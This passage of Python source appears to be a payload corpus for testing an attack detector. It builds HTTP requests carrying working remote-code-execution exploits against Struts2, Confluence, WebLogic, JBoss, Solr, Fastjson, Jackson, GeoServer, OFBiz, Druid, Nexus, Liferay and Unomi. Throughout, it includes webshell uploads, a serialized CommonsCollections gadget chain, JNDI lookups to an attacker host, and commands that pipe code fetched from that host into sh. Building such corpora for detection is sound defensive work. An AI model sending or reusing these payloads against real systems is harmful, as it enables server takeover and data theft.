        "@getResponse(),#w=#res.getWriter(),#w.print(#parameters.x[0]),#w.close(),1?#xx:#request.toString")
X("java", "struts2-s2-032",
  ("param-name", S032, get("/index.action?" + S032.replace("#", "%23").replace("=", "%3d")
                           + "&x=struts2_security_check")),
  ("param-name", S032, get("/api/users?" + enc(S032) + "=1&x=struts2_security_check")),
  ("param-name", S032, form_raw("/admin/users/search", "csrf_token=" + CSRF + "&" + enc(S032) + "=1&x=check")))

S016 = ("${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
        ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
        "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}")
X("java", "struts2-s2-016",
  ("param-name", "redirect:" + S016, get("/index.action?redirect:" + enc(S016))),
  ("param-name", "action:" + S016, get("/login.action?action:" + enc(S016))),
  ("param-name", "redirectAction:" + S016, get("/api/users?redirectAction:" + enc(S016))),
  ("param-name", "redirect:${2*3}", get("/admin/users/search?redirect:%24%7B2*3%7D")),
  ("param-name", "redirect:" + S016, form_raw("/admin/users/search", "csrf_token=" + CSRF + "&redirect:" + enc(S016)
                                               + "=1")))

S061 = ("%{(#instancemanager=#application[\"org.apache.tomcat.InstanceManager\"]).(#stack=#attr["
        "\"com.opensymphony.xwork2.util.ValueStack.ValueStack\"]).(#bean=#instancemanager.newInstance("
        "\"org.apache.commons.collections.BeanMap\")).(#bean.setBean(#stack)).(#context=#bean.get(\"context\"))."
        "(#bean.setBean(#context)).(#macc=#bean.get(\"memberAccess\")).(#bean.setBean(#macc)).(#emptyset="
        "#instancemanager.newInstance(\"java.util.HashSet\")).(#bean.put(\"excludedClasses\",#emptyset))."
        "(#bean.put(\"excludedPackageNames\",#emptyset)).(#arglist=#instancemanager.newInstance("
        "\"java.util.ArrayList\")).(#arglist.add(\"id\")).(#execute=#instancemanager.newInstance("
        "\"freemarker.template.utility.Execute\")).(#execute.exec(#arglist))}")
X("java", "struts2-s2-061",
  ("multipart-field", S061, mpart("/index.action", [("id", None, None, S061)])),
  ("form", S061, adm("id", S061)),
  ("query", "%{233*233}", q("id", "%{233*233}")))

X("java", "struts2-devmode",
  ("query", "#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
            ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
            "@java.lang.Runtime@getRuntime().exec('id')",
   get("/index.action?debug=command&expression=" + enc(
       "#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
       ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
       "@java.lang.Runtime@getRuntime().exec('id')"))),
  ("query", "(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id'))",
   q("expression", "(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id'))",
     more=[("debug", "command")])),
  ("query", "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}",
   get("/api/users?a=" + enc("${#_memberAccess[\"allowStaticMethodAccess\"]=true,"
                             "@java.lang.Runtime@getRuntime().exec('id')}"))))

X("java", "struts2-s2-020",
  ("param-name", "class['classLoader']['resources']['dirContext']['docBase']=/",
   get("/index.action?class%5B%27classLoader%27%5D%5B%27resources%27%5D%5B%27dirContext%27%5D%5B%27docBase%27%5D=/")),
  ("param-name", "class.classLoader.resources.dirContext.docBase=/etc",
   get("/api/users?class.classLoader.resources.dirContext.docBase=/etc")),
  ("param-name", "class['classLoader'].parent.pipeline.first.directory=webapps/ROOT",
   adm("class['classLoader'].parent.pipeline.first.directory", "webapps/ROOT")))

S001 = ("%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).redirectErrorStream(true).start(),"
        "#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),"
        "#e=new char[50000],#d.read(#e),#f=#context.get(\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"),"
        "#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}")
X("java", "struts2-s2-001",
  ("form", S001, form("/login.action", [("username", S001), ("submit", "Login")])),
  ("form", "%{1+1}", adm("q", "%{1+1}")),
  ("json", S001, js("name", S001)))

X("java", "struts2-cve-2023-50164",
  ("multipart-field", "uploadFileName=../../../../../webapps/ROOT/shell.jsp",
   mpart("/upload.action", [("Upload", "shell.jsp", "application/octet-stream",
                             '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
                            ("uploadFileName", None, None, "../../../../../webapps/ROOT/shell.jsp")])),
  ("multipart-field", "uploadFileName=../../../../../webapps/ROOT/x.jsp",
   mpart("/api/users", [("Upload", "a.txt", "text/plain", "hello"),
                        ("uploadFileName", None, None, "../../../../../webapps/ROOT/x.jsp")])),
  ("query", "top.uploadFileName=../../../tomcat/webapps/ROOT/s.jsp",
   mpart("/me/settings?top.uploadFileName=..%2F..%2F..%2Ftomcat%2Fwebapps%2FROOT%2Fs.jsp",
         [("Upload", "s.jsp", "text/plain", "<%= 7*7 %>")])))

CONF_OGNL = ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\")"
             ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
             ".setHeader(\"X-Cmd-Response\",#a))}")
CONF_JS = ("${Class.forName(\"com.opensymphony.webwork.ServletActionContext\").getMethod(\"getResponse\",null)"
           ".invoke(null,null).setHeader(\"X-Cmd\",Class.forName(\"javax.script.ScriptEngineManager\").newInstance()"
           ".getEngineByName(\"nashorn\").eval(\"new java.lang.ProcessBuilder('id').start()\"))}")
X("java", "confluence-cve-2022-26134",
  ("path", CONF_OGNL, get("/" + enc(CONF_OGNL) + "/")),
  ("path", "${@java.lang.Runtime@getRuntime().exec(\"touch /tmp/x\")}",
   get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22touch%20/tmp/x%22%29%7D/")),
  ("path", "${7*191}", get("/%24%7B7*191%7D/")),
  ("path", CONF_OGNL, get("/api/" + enc(CONF_OGNL) + "/")),
  ("path", CONF_JS, get("/" + enc(CONF_JS) + "/")),
  ("path", CONF_OGNL, get("/admin/" + enc(CONF_OGNL) + "/")))

C26084 = ("\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName("
          "\\u0027JavaScript\\u0027).\\u0065val(\\u0027var isWin = java.lang.System.getProperty(\\u0022os.name"
          "\\u0022).toLowerCase().contains(\\u0022win\\u0022); var cmd = new java.lang.String(\\u0022id\\u0022);"
          "var p = new java.lang.ProcessBuilder(); if(isWin){p.command(\\u0022cmd.exe\\u0022, \\u0022/c\\u0022, cmd);"
          " } else{p.command(\\u0022bash\\u0022, \\u0022-c\\u0022, cmd); }p.redirectErrorStream(true); var process="
          " p.start(); var inputStreamReader = new java.io.InputStreamReader(process.getInputStream()); var "
          "bufferedReader = new java.io.BufferedReader(inputStreamReader); var line = \\u0022\\u0022; var output ="
          " \\u0022\\u0022; while((line = bufferedReader.readLine()) != null){output = output + line + "
          "java.lang.Character.toString(10); }\\u0027)}+\\u0027")
X("java", "confluence-cve-2021-26084",
  ("form", C26084, form("/pages/createpage-entervariables.action?SpaceKey=x", [("queryString", C26084)])),
  ("form", "aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022]}+\\u0027",
   form("/pages/doenterpagevariables.action", [("queryString",
                                                "aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022]}+\\u0027")])),
  ("form", C26084, adm("queryString", C26084)),
  ("query", "\\u0027+#{99*99}+\\u0027", get("/users/user-dark-features?featureKey=" + enc("\\u0027+#{99*99}+\\u0027"))))

C22527 = ("\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027)"
          ".findValue(#parameters.x,{})+\\u0027")
C22527_X = ("@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',"
            "(new freemarker.template.utility.Execute()).exec({\"id\"}))")
X("java", "confluence-cve-2023-22527",
  ("form", C22527, form("/template/aui/text-inline.vm", [("label", C22527), ("x", C22527_X)])),
  ("form", C22527, adm("label", C22527, [("x", C22527_X)])),
  ("form", C22527_X, form("/template/aui/text-inline.vm", [("label", "x"), ("x", C22527_X)])))

X("java", "confluence-cve-2023-22515",
  ("param-name", "bootstrapStatusProvider.applicationConfig.setupComplete=false",
   get("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false")),
  ("param-name", "bootstrapStatusProvider.applicationConfig.setupComplete=false",
   get("/api/users?bootstrapStatusProvider.applicationConfig.setupComplete=false")),
  ("form", "setup/setupadministrator.action", form("/setup/setupadministrator.action",
                                                   [("username", "attacker"), ("fullName", "x"),
                                                    ("email", "x@attacker.example"), ("setup-next-button", "Next")])))

X("java", "jackson-polymorphic",
  ("json", "ch.qos.logback.core.db.DriverManagerConnectionSource jdbc:h2 RUNSCRIPT",
   jpost("/api/users", ["ch.qos.logback.core.db.DriverManagerConnectionSource",
                        {"url": f"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{ATK}:8000/inject.sql'"}])),
  ("json", "com.sun.rowset.JdbcRowSetImpl",
   jpost("/api/users", {"id": 1, "obj": ["com.sun.rowset.JdbcRowSetImpl",
                                         {"dataSourceName": f"ldap://{ATK}:1389/Exploit", "autoCommit": True}]})),
  ("json", "org.springframework.context.support.ClassPathXmlApplicationContext",
   jpost("/api/users/42", ["org.springframework.context.support.ClassPathXmlApplicationContext",
                           f"http://{ATK}/spel.xml"], method="PUT")),
  ("json", "org.apache.xbean.propertyeditor.JndiConverter",
   me("prefs", ["org.apache.xbean.propertyeditor.JndiConverter", {"asText": f"ldap://{ATK}:1389/obj"}])),
  ("json", "ch.qos.logback.core.db.JNDIConnectionSource",
   jpost("/api/users", ["ch.qos.logback.core.db.JNDIConnectionSource",
                        {"jndiLocation": f"ldap://{ATK}:1389/Exploit"}])),
  ("json", "com.zaxxer.hikari.HikariConfig",
   js("config", {"@class": "com.zaxxer.hikari.HikariConfig", "metricRegistry": f"ldap://{ATK}:1389/x"})))

FJ_ROWSET = {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": f"rmi://{ATK}:1099/Exploit",
             "autoCommit": True}
X("java", "fastjson-autotype",
  ("json", "@type com.sun.rowset.JdbcRowSetImpl", jpost("/api/users", FJ_ROWSET)),
  ("json", "java.lang.Class cache bypass (1.2.47)",
   jpost("/api/users", {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                        "b": {"@type": "com.sun.rowset.JdbcRowSetImpl",
                              "dataSourceName": f"ldap://{ATK}:1389/Exploit", "autoCommit": True}})),
  ("json", "Lcom.sun.rowset.JdbcRowSetImpl;",
   jpost("/api/users/42", {"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": f"ldap://{ATK}:1389/a",
                           "autoCommit": True}, method="PUT")),
  ("json", "\\u0040\\u0074\\u0079\\u0070\\u0065 (escaped @type)",
   jraw("/api/users", '{"\\u0040\\u0074\\u0079\\u0070\\u0065":"\\u0063om.sun.rowset.JdbcRowSetImpl",'
        f'"dataSourceName":"ldap://{ATK}:1389/b","autoCommit":true}}')),
  ("json", f"@type java.net.Inet4Address fj.{OOB}",
   jpost("/me/settings", {"@type": "java.net.Inet4Address", "val": f"fj.{OOB}"})),
  ("json", "org.apache.tomcat.dbcp.dbcp2.BasicDataSource $$BCEL$$",
   jpost("/api/users", {"@type": "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
                        "driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"},
                        "driverClassName": "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV$cbR$db$40$U$3d$T$t$b6$c0$89$c1$f0"})))

X("java", "text4shell",
  ("query", "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}",
   q("search", "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}")),
  ("json", f"${{dns:address|{OOB}}}", js("bio", f"${{dns:address|{OOB}}}")),
  ("form", f"${{url:UTF-8:http://{OOB}/t4s}}", adm("q", f"${{url:UTF-8:http://{OOB}/t4s}}")),
  ("query", "${file:UTF-8:/etc/passwd}", q("q", "${file:UTF-8:/etc/passwd}", "/api/users/42")),
  ("json", "${script:JEXL:''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
   slack("hey bot, search ${script:JEXL:''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}")))

WLS_XML = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
           '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.4.0" '
           'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
           'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
           '<void index="2"><string>{cmd}</string></void></array><void method="start"/></void></java>'
           '</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
X("java", "weblogic-wls-wsat",
  ("xml", "java.beans.XMLDecoder ProcessBuilder", xpost("/wls-wsat/CoordinatorPortType",
                                                        WLS_XML.replace("{cmd}", "id"), "text/xml")),
  ("xml", "java.beans.XMLDecoder ProcessBuilder", xpost("/wls-wsat/RegistrationPortTypeRPC",
                                                        WLS_XML.replace("{cmd}", f"curl {ATK}/w|sh"), "text/xml")),
  ("xml", "java.beans.XMLDecoder ProcessBuilder", xpost("/api/users", WLS_XML.replace("{cmd}", "id"), "text/xml")),
  ("xml", "java.beans.XMLDecoder PrintWriter",
   xpost("/wls-wsat/CoordinatorPortType11",
         '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
         '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><java version="1.4.0" '
         'class="java.beans.XMLDecoder"><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/_WL_'
         'internal/bea_wls_internal/9j4dqk/war/test.jsp</string><void method="println"><string><![CDATA[<% out.'
         'print("test"); %>]]></string></void><void method="close"/></object></java></java></work:WorkContext>'
         '</soapenv:Header><soapenv:Body/></soapenv:Envelope>', "text/xml")))

X("java", "weblogic-async-cve-2019-2725",
  ("xml", "wsa:Action + XMLDecoder", xpost("/_async/AsyncResponseService",
                                           WLS_XML.replace("<soapenv:Header>", '<soapenv:Header><wsa:Action>xx'
                                                           '</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo>')
                                           .replace("{cmd}", "id"), "text/xml")),
  ("xml", "XMLDecoder", xpost("/_async/AsyncResponseServiceHttps", WLS_XML.replace("{cmd}", f"wget {ATK}/a"),
                              "text/xml")),
  ("xml", "XMLDecoder", xpost("/admin/users/search", WLS_XML.replace("{cmd}", "id"), "text/xml")))

WL_HANDLE = "com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('id');\")"
X("java", "weblogic-console-cve-2020-14882",
  ("query", WL_HANDLE, get("/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
                           + enc(WL_HANDLE))),
  ("query", WL_HANDLE, get("/console/images/%252E./console.portal?_nfpb=true&_pageLabel=&handle=" + enc(WL_HANDLE))),
  ("form",
   f"com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(\"http://{ATK}/x.xml\")",
   form("/console/css/%252e%252e%252fconsole.portal", [
       ("_nfpb", "true"), ("_pageLabel", ""), ("handle", "com.bea.core.repackaged.springframework.context.support."
                                                          f"FileSystemXmlApplicationContext(\"http://{ATK}/x.xml\")")])),
  ("query", WL_HANDLE, q("handle", WL_HANDLE)))

JSER = ("\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02"
        "\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00"
        "\x00\x01\x00\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy\xe1'\xda \xcc\x10C\xcb\x02\x00\x01L\x00\x01ht"
        "\x00%Ljava/lang/reflect/InvocationHandler;xpsq\x00~\x00\x00sr\x00*org.apache.commons.collections.map."
        "LazyMapn\xe5\x94\x82\x9ey\x10\x94\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/"
        "Transformer;xpsr\x00:org.apache.commons.collections.functors.ChainedTransformer0\xc7\x97\xec(z\x97\x04\x02"
        "\x00\x01[\x00\riTransformerst\x00-[Lorg/apache/commons/collections/Transformer;xpur\x00-[Lorg.apache."
        "commons.collections.Transformer;\xbdV*\xf1\xd84\x18\x99\x02\x00\x00xp\x00\x00\x00\x05sr\x00;org.apache."
        "commons.collections.functors.ConstantTransformerXv\x90\x11A\x02\xb1\x94\x02\x00\x01L\x00\tiConstantt\x00"
        "\x12Ljava/lang/Object;xpvr\x00\x11java.lang.Runtime\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00xpsr\x00:"
        "org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgs"
        "t\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;[\x00\x0biParamTypest\x00\x12"
        "[Ljava/lang/Class;xpur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x02t\x00"
        "\ngetRuntimeur\x00\x12[Ljava.lang.Class;\xab\x16\xd7\xae\xcb\xcdZ\x99\x02\x00\x00xp\x00\x00\x00\x00t\x00"
        "\tgetMethoduq\x00~\x00\x1e\x00\x00\x00\x02vr\x00\x10java.lang.String\xa0\xf0\xa48z;\xb3B\x02\x00\x00xpvq"
        "\x00~\x00\x1esq\x00~\x00\x16uq\x00~\x00\x1b\x00\x00\x00\x01t\x00\x04execuq\x00~\x00\x1e\x00\x00\x00\x01q"
        "\x00~\x00#sq\x00~\x00\x16ur\x00\x13[Ljava.lang.String;t\x00\x02idt\x00\x04exec")
SER_CT = "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue"
X("java", "jboss-invoker-deserialization",
  ("raw-body", "aced0005 CommonsCollections1 (InvokerTransformer, Runtime.exec)",
   post("/invoker/JMXInvokerServlet", JSER, SER_CT)),
  ("raw-body", "aced0005 CommonsCollections1", post("/invoker/readonly", JSER, "application/octet-stream")),
  ("raw-body", "aced0005 CommonsCollections1", post("/invoker/EJBInvokerServlet", JSER, SER_CT)),
  ("raw-body", "aced0005 CommonsCollections1", post("/api/users", JSER, "application/x-java-serialized-object")))

X("java", "jboss-jmx-console",
  ("query", '<%Runtime.getRuntime().exec(request.getParameter("c"));%>',
   get("/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin%3Aservice%3DDeploymentFileRepository"
       "&methodName=store&argType=java.lang.String&arg0=shell.war&argType=java.lang.String&arg1=shell"
       "&argType=java.lang.String&arg2=.jsp&argType=java.lang.String&arg3="
       + enc('<%Runtime.getRuntime().exec(request.getParameter("c"));%>') + "&argType=boolean&arg4=True")),
  ("query", f"jboss.system:service=MainDeployer deploy http://{ATK}/shell.war",
   get("/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.system%3Aservice%3DMainDeployer"
       f"&methodName=deploy&argType=java.lang.String&arg0=http%3A%2F%2F{ATK}%2Fshell.war")),
  ("form", f"jboss.system:service=MainDeployer deploy http://{ATK}/shell.war",
   form("/jmx-console/HtmlAdaptor", [("action", "invokeOpByName"), ("name", "jboss.system:service=MainDeployer"),
                                     ("methodName", "deploy"), ("argType", "java.lang.String"),
                                     ("arg0", f"http://{ATK}/shell.war")])))

SOLR_VM = ("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName("
           "'java.lang.Character')) #set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime()"
           ".exec('id')) $ex.waitFor() #set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])"
           "$str.valueOf($chr.toChars($out.read()))#end")
X("java", "solr-velocity-cve-2019-17558",
  ("json", "solr.VelocityResponseWriter params.resource.loader.enabled",
   jpost("/solr/core0/config", {"update-queryresponsewriter": {
       "startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter", "template.base.dir": "",
       "solr.resource.loader.enabled": "true", "params.resource.loader.enabled": "true"}})),
  ("query", SOLR_VM, get("/solr/core0/select?q=1&&wt=velocity&v.template=custom&v.template.custom=" + enc(SOLR_VM))),
  ("query", SOLR_VM, get("/api/users?q=1&wt=velocity&v.template=custom&v.template.custom=" + enc(SOLR_VM))),
  ("json", "solr.VelocityResponseWriter", jpost("/api/users", {"update-queryresponsewriter": {
      "startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter",
      "params.resource.loader.enabled": "true"}})))

DIH = ('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(){ java.lang.Runtime'
       '.getRuntime().exec("{cmd}");}]]></script><document><entity name="stackoverflow" url="https://stackoverflow'
       '.com/feeds/tag/solr" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc" />'
       '</document></dataConfig>')
X("java", "solr-dataimport-cve-2019-0193",
  ("form", DIH.replace("{cmd}", "id"), form("/solr/core0/dataimport", [
      ("command", "full-import"), ("verbose", "false"), ("clean", "false"), ("commit", "true"), ("debug", "true"),
      ("core", "core0"), ("name", "dataimport"), ("dataConfig", DIH.replace("{cmd}", "id"))])),
  ("query", DIH.replace("{cmd}", "touch /tmp/dih"),
   get("/solr/core0/dataimport?command=full-import&debug=true&dataConfig=" + enc(DIH.replace("{cmd}",
                                                                                             "touch /tmp/dih")))),
  ("form", DIH.replace("{cmd}", "id"), adm("dataConfig", DIH.replace("{cmd}", "id"), [("command", "full-import")])),
  ("json", DIH.replace("{cmd}", "id"), js("dataConfig", DIH.replace("{cmd}", "id"))))

X("java", "solr-cve-2017-12629",
  ("query", f"{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{OOB}/xxe\"><a></a>'}}",
   get("/solr/demo/select?q="
       + enc(f"{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{OOB}/xxe\"><a></a>'}}") + "&wt=xml")),
  ("json", "solr.RunExecutableListener", jpost("/solr/demo/config", {"add-listener": {
      "event": "postCommit", "name": "newlistener", "class": "solr.RunExecutableListener", "exe": "sh",
      "dir": "/bin/", "args": ["-c", f"curl {ATK}/s|sh"]}})),
  ("query", f"{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{OOB}/x2\"><a></a>'}}",
   q("q", f"{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{OOB}/x2\"><a></a>'}}")),
  ("json", "solr.RunExecutableListener", jpost("/api/users", {"add-listener": {
      "event": "newSearcher", "name": "l2", "class": "solr.RunExecutableListener", "exe": "/bin/bash",
      "dir": "/", "args": ["-c", "id"]}})))

OFBIZ_QS = "?USERNAME=&PASSWORD=&requirePasswordChange=Y"
X("java", "apache-ofbiz",
  ("form", "throw new Exception('id'.execute().text);",
   form("/webtools/control/ProgramExport/" + OFBIZ_QS, [("groovyProgram",
                                                         "throw new Exception('id'.execute().text);")])),
  ("form", "\\u0074\\u0068\\u0072\\u006f\\u0077 new Exception('id'.execute().text);",
   form("/webtools/control/ProgramExport/" + OFBIZ_QS,
        [("groovyProgram", "\\u0074\\u0068\\u0072\\u006f\\u0077 new Exception('id'.execute().text);")])),
  ("form", f"def c='curl {ATK}/o|sh'.execute();",
   form("/webtools/control/main/ProgramExport", [("groovyProgram", f"def c='curl {ATK}/o|sh'.execute();")])),
  ("xml", "xmlrpc <serializable> rO0AB...",
   xpost("/webtools/control/xmlrpc", '<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName>'
         '<params><param><value><struct><member><name>test</name><value><serializable xmlns="http://ws.apache.org/'
         'xmlrpc/namespaces/extensions">rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyAD'
         'RvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5iq3SmznBH9sCAAJMAANrZXl0ABJMamF2YS'
         '9sYW5nL09iamVjdDtMAANtYXB0AA9MamF2YS91dGlsL01hcDt4cA==</serializable></value></member></struct></value>'
         '</param></params></methodCall>', "text/xml")),
  ("form", "throw new Exception('id'.execute().text);",
   adm("groovyProgram", "throw new Exception('id'.execute().text);")))

DRUID = {"type": "index", "spec": {"ioConfig": {"type": "index", "inputSource": {"type": "inline", "data":
         "{\"isRobot\":true,\"channel\":\"#x\",\"timestamp\":\"2021-2-1T14:12:24.050Z\",\"X\":\"x\"}"},
         "inputFormat": {"type": "json", "keepNullColumns": True}}, "dataSchema": {"dataSource": "sample",
         "timestampSpec": {"column": "timestamp", "format": "iso"}, "dimensionsSpec": {}, "transformSpec": {
             "transforms": [], "filter": {"type": "javascript", "dimension": "added",
                                          "function": "function(value) {java.lang.Runtime.getRuntime().exec('id')}",
                                          "": {"enabled": True}}}}, "type": "index", "tuningConfig": {"type": "index"}},
         "samplerConfig": {"numRows": 500, "timeoutMs": 15000}}
X("java", "apache-druid-cve-2021-25646",
  ("json", "function(value) {java.lang.Runtime.getRuntime().exec('id')} + \"\":{\"enabled\":true}",
   jpost("/druid/indexer/v1/sampler", DRUID)),
  ("json", "function(value) {java.lang.Runtime.getRuntime().exec('id')}", jpost("/api/users", DRUID)),
  ("json", "javascript filter + \"\":{\"enabled\":true}",
   jpost("/druid/indexer/v1/sampler?for=filter", {"type": "index", "spec": {"dataSchema": {"transformSpec": {
       "filter": {"type": "javascript", "function": f"function(v){{java.lang.Runtime.getRuntime().exec('curl {ATK}')}}",
                  "dimension": "x", "": {"enabled": True}}}}}})))

GEO = "exec(java.lang.Runtime.getRuntime(),'touch /tmp/geo')"
X("java", "geoserver-cve-2024-36401",
  ("query", GEO, get("/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites"
                     "&valueReference=" + enc(GEO))),
  ("query", f"exec(java.lang.Runtime.getRuntime(),'curl {ATK}/g')",
   get("/geoserver/ows?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=topp:states&valueReference="
       + enc(f"exec(java.lang.Runtime.getRuntime(),'curl {ATK}/g')"))),
  ("xml", GEO, xpost("/geoserver/wfs", '<wfs:GetPropertyValue service="WFS" version="2.0.0" xmlns:topp='
                     '"http://www.openplans.org/topp" xmlns:fes="http://www.opengis.net/fes/2.0" xmlns:wfs='
                     '"http://www.opengis.net/wfs/2.0"><wfs:Query typeNames="sf:archsites"/><wfs:valueReference>'
                     + GEO + "</wfs:valueReference></wfs:GetPropertyValue>")),
  ("query", GEO, q("valueReference", GEO, more=[("request", "GetPropertyValue")])))

NEXUS = "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}"
X("java", "nexus-el-injection",
  ("json", NEXUS, jpost("/service/rest/beta/repositories/go/group", {
      "name": "internal", "online": True, "storage": {"blobStoreName": "default", "strictContentTypeValidation": True},
      "group": {"memberNames": [NEXUS]}})),
  ("json", "$\\c{1337*1337}", jpost("/service/extdirect", {
      "action": "coreui_User", "method": "update", "data": [{"userId": "anonymous", "roles": ["$\\c{1337*1337}"]}],
      "type": "rpc", "tid": 11})),
  ("json", NEXUS, js("roles", [NEXUS])))

LIFERAY = ('{"userOverridesAsString":"HexAsciiSerializedMap:ACED0005737200116A6176612E7574696C2E48617368536574BA4485'
           '9596B8B7340300007870770C000000103F400000000000027372002A6F72672E6170616368652E636F6D6D6F6E732E636F6C6C6563'
           '74696F6E732E6D61702E4C617A794D6170;"}')
X("java", "liferay-jsonws-cve-2020-7961",
  ("form", "defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
   form("/api/jsonws/expandocolumn/update-column", [
       ("columnId", "1"), ("name", "2"), ("type", "3"),
       ("defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", LIFERAY)])),
  ("form", "defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
   form("/api/jsonws/expandocolumn/add-column", [
       ("tableId", "1"), ("name", "2"), ("type", "3"),
       ("+defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", LIFERAY)])),
  ("form", "defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
   adm("defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", LIFERAY)))

UNOMI = {"filters": [{"id": "boom", "filters": [{"condition": {"parameterValues": {
    "": "script::Runtime r = Runtime.getRuntime(); r.exec(\"touch /tmp/unomi\");"},
    "type": "profilePropertyCondition"}}]}], "sessionId": "boom"}
X("java", "apache-unomi-cve-2020-13942",
  ("json", "script::Runtime r = Runtime.getRuntime(); r.exec(...)", jpost("/context.json", UNOMI)),
  ("json", "script::Runtime r = Runtime.getRuntime(); r.exec(...)", jpost("/api/users", UNOMI)),
  ("json", "(#runtimeclass = #this.getClass().forName(\"java.lang.Runtime\")).(...exec(\"id\"))",
   jpost("/context.json", {"personalizations": [{"id": "gender-test", "strategy": "matching-first", "strategyOptions":
